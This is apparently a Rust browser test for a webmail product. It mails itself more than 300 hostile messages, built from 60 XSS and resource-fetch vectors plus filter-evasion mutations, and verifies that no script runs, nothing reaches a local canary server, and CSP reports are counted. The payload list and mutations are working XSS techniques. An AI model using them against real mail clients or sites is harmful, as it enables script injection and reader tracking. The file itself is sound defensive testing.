//! Hostile mail: hundreds of ways to make a reader's browser run or fetch something, each shown in Chromium, with a
//! server listening for anything that gets out.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;

use crate::driver::{DESKTOP, Driver, Result};
use crate::owner::sign_in;
use crate::product::Product;
use crate::webmail::bring;

/// What a payload tries to run: it would be seen in the page around it, and by the server that listens.
const RUN: &str = "top.pwned=1;fetch('URL/run');new Image().src='URL/img'";

/// Ways to run something or to fetch something.
/// `RUN` and `URL` are filled in.
const VECTORS: [&str; 60] = [
    "<script>RUN</script>",
    "<script src=URL/s.js></script>",
    "<img src=x onerror=\"RUN\">",
    "<svg onload=\"RUN\"></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=\"javascript:RUN\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x\"></use></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=\"RUN\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=\"RUN\"></annotation-xml></math>",
    "<body onload=\"RUN\">x</body>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=\"URL/f\"></iframe>",
    "<object data=\"URL/o\"></object>",
    "<embed src=\"URL/e\">",
    "<applet code=\"URL/a\"></applet>",
    "<link rel=stylesheet href=\"URL/c.css\">",
    "<link rel=prefetch href=\"URL/p\">",
    "<link rel=dns-prefetch href=\"URL/d\">",
    "<link rel=preload as=image href=\"URL/l\">",
    "<meta http-equiv=refresh content=\"0;url=URL/m\">",
    "<base href=\"URL/\"><img src=relative>",
    "<style>@import 'URL/i.css';</style>",
    "<style>body{background:url(URL/b)}</style>",
    "<style><img src=\"</style><img src=x onerror='RUN'>\">",
    "<div style=\"background:url(URL/u)\">x</div>",
    "<div style=\"background-image:image-set('URL/is' 1x)\">x</div>",
    "<div style=\"list-style:url('URL/ls')\">x</div>",
    "<div style=\"width:expression(RUN)\">x</div>",
    "<div style=\"b\\61ckground:u\\72l(URL/esc)\">x</div>",
    "<table background=\"URL/tb\"><tr><td background=\"URL/td\">x</td></tr></table>",
    "<img src=\"URL/pixel.png\">",
    "<img srcset=\"URL/set 1x\">",
    "<picture><source srcset=\"URL/src\"><img></picture>",
    "<video src=\"URL/v\" poster=\"URL/vp\" autoplay onloadstart=\"RUN\"></video>",
    "<audio src=\"URL/au\" autoplay onerror=\"RUN\"></audio>",
    "<input type=image src=\"URL/in\" autofocus onfocus=\"RUN\">",
    "<textarea autofocus onfocus=\"RUN\"></textarea>",
    "<details open ontoggle=\"RUN\">x</details>",
    "<marquee onstart=\"RUN\">x</marquee>",
    "<form action=\"URL/form\"><button autofocus onfocus=\"RUN\">x</button></form>",
    "<form id=f action=\"URL/f2\"></form><button form=f>x</button>",
    "<a href=\"javascript:RUN\" autofocus tabindex=1 onfocus=\"RUN\">x</a>",
    "<a href=\"data:text/html,<script>RUN</script>\">x</a>",
    "<a ping=\"URL/ping\" href=\"#\">x</a>",
    "<template><img src=x onerror=\"RUN\"></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='RUN'>\"></noscript>",
    "<title><img src=x onerror=\"RUN\"></title>",
    "<textarea></textarea><img src=x onerror=\"RUN\">",
    "<xmp><img src=x onerror=\"RUN\"></xmp>",
    "<!--><img src=x onerror=\"RUN\">-->",
    "<![CDATA[><img src=x onerror=\"RUN\">]]>",
    "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>RUN</script></html>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5wd25lZD0xIi8+\">",
    "<p id=\"token\" name=\"token\">clobber</p><img name=cookie><form name=location>",
    "<frameset onload=\"RUN\"><frame src=\"URL/fr\"></frameset>",
    "<portal src=\"URL/po\"></portal>",
    "<x is=y onpointerrawupdate=\"RUN\" onanimationstart=\"RUN\" style=\"animation:a 1s\">x</x>",
    "<isindex action=\"URL/idx\" type=image src=\"URL/isx\">",
];

/// The same in other clothes.
fn mutations(vector: &str) -> [String; 6] {
    let alternate: String = vector
        .char_indices()
        .map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c })
        .collect();
    // What is run must stay as it is written.
    let shouted = if vector.contains("RUN") || vector.contains("URL") {
        vector.replacen('<', "<\u{0}", 1)
    } else {
        alternate
    };
    [
        vector.to_string(),
        shouted,
        vector
            .replace(" on", "/on")
            .replace(" src", "\tsrc")
            .replace("javascript:", "java\nscript:"),
        vector.replace("javascript:", "&#106;avascript&colon;").replace('"', "'"),
        vector.replacen('<', "<<", 1).replacen('>', "//>", 1),
        format!("<div title=\"{}\">{vector}</div></div></p></table>", vector.replace('"', "'")),
    ]
}

/// Counts connections.
async fn canary() -> Result<(String, Arc<AtomicUsize>)> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let url = format!("http://{}", listener.local_addr()?);
    let seen = Arc::new(AtomicUsize::new(0));
    let counter = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut tcp, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            let mut what = [0; 200];
            let count = tcp.read(&mut what).await.unwrap_or(0);
            println!(
                "        got out: {}",
                String::from_utf8_lossy(&what[..count]).lines().next().unwrap_or_default()
            );
        }
    });
    Ok((url, seen))
}

pub async fn nothing_runs_and_nothing_gets_out(driver: &Driver, _: &Path) -> Result<()> {
    let product = Product::demo()?;
    let (url, seen) = canary().await?;
    let fill = |text: &str| text.replace("RUN", RUN).replace("URL", &url);
    let payloads: Vec<String> =
        VECTORS.iter().flat_map(|vector| mutations(vector)).map(|payload| fill(&payload)).collect();
    assert!(payloads.len() >= 300);
    for (at, payload) in payloads.iter().enumerate() {
        // The body, and the places that are shown outside of the frame.
        let quoted = payload.replace(['"', '\\', '\n', '\r', '\0'], " ");
        let content = format!(
            "From: \"{quoted}\" <cy@x.example>\r\nTo: \"{quoted}\" <ann@example.test>\r\nSubject: {at} {quoted}\r\nMIME-Version: 1.0\r\n\
             List-Unsubscribe: <https://x.example/{}>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\
             Content-Transfer-Encoding: quoted-printable\r\n\r\n{}\r\n\
             --b\r\nContent-Type: image/svg+xml; name=\"{quoted}.svg\"\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{}</script></svg>\r\n--b--",
            quoted.replace(' ', ""),
            // NUL comes in encoded, or not at all.
            payload.replace('=', "=3D").replace('\0', "=00").replace('\n', "\r\n"),
            fill(RUN),
        );
        bring(&product, "ann@example.test", &content).await?;
    }
    let browser = driver.browser(DESKTOP).await?;
    let (user, password) = product.people[0].clone();
    sign_in(&browser, &product, &user, &password).await?;
    browser.sees("Sign out").await?;
    let looked = |what: &str, browser_says: serde_json::Value| -> Result<()> {
        match (seen.load(Ordering::SeqCst), browser_says) {
            (0, serde_json::Value::Null) => Ok(()),
            (count, says) => Err(format!("{what}: {count} connections, {says}").into()),
        }
    };
    // A picture with a script is doubted: all of them are in Junk.
    let first = 1;
    for (at, payload) in payloads.iter().enumerate() {
        let page = format!("/mail/5/{}", first + at);
        browser.open(&product.url(&page)).await?;
        looked(payload, browser.script("return window.pwned ?? null").await?)?;
        let shown =
            browser.script("return document.querySelector('h1')?.textContent ?? ''").await?;
        if !shown.as_str().is_some_and(|title| title.starts_with(&at.to_string())) {
            return Err(format!("{page} shows {shown} instead of message {at}").into());
        }
    }
    for page in [
        "/mail/5", "/mail/5?q=cy", "/compose?answers=5.10&how=reply",
        "/compose?answers=5.40&how=forward", "/mail/5/3?plain=1", "/home", "/find",
    ] {
        browser.open(&product.url(page)).await?;
        looked(page, browser.script("return window.pwned ?? null").await?)?;
    }
    // No browser had to keep anything of it from running: the first lock held.
    // And a page that did would be told of.
    let reports = async || -> Result<String> {
        let metrics = browser.script("return await (await fetch('/metrics')).text()").await?;
        let line = metrics
            .as_str()
            .and_then(|text| {
                text.lines().find(|line| line.starts_with("pillarbox_policy_reports "))
            })
            .unwrap_or_default();
        Ok(line.rsplit(' ').next().unwrap_or_default().to_string())
    };
    if reports().await? != "0" {
        return Err(format!("browsers reported {} things", reports().await?).into());
    }
    browser.script("const made = document.createElement('script'); made.textContent = 'window.pwned = 1'; document.body.append(made); return 0").await?;
    looked("a script put into a page", browser.script("return window.pwned ?? null").await?)?;
    for _ in 0..50 {
        if reports().await? != "0" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    if reports().await? == "0" {
        return Err("a script was kept from running, and nobody was told".into());
    }
    // The canary itself works: with pictures allowed, the picture is fetched.
    let pixel = VECTORS
        .iter()
        .position(|vector| vector.contains("pixel.png"))
        .ok_or("no vector with a picture")?
        * 6;
    browser.open(&product.url(&format!("/mail/5/{}?pictures=1", first + pixel))).await?;
    for _ in 0..50 {
        if seen.load(Ordering::SeqCst) > 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    if seen.load(Ordering::SeqCst) == 0 {
        return Err("the canary saw nothing although a picture was allowed".into());
    }
    println!("        {} messages shown", payloads.len());
    browser.close().await
}
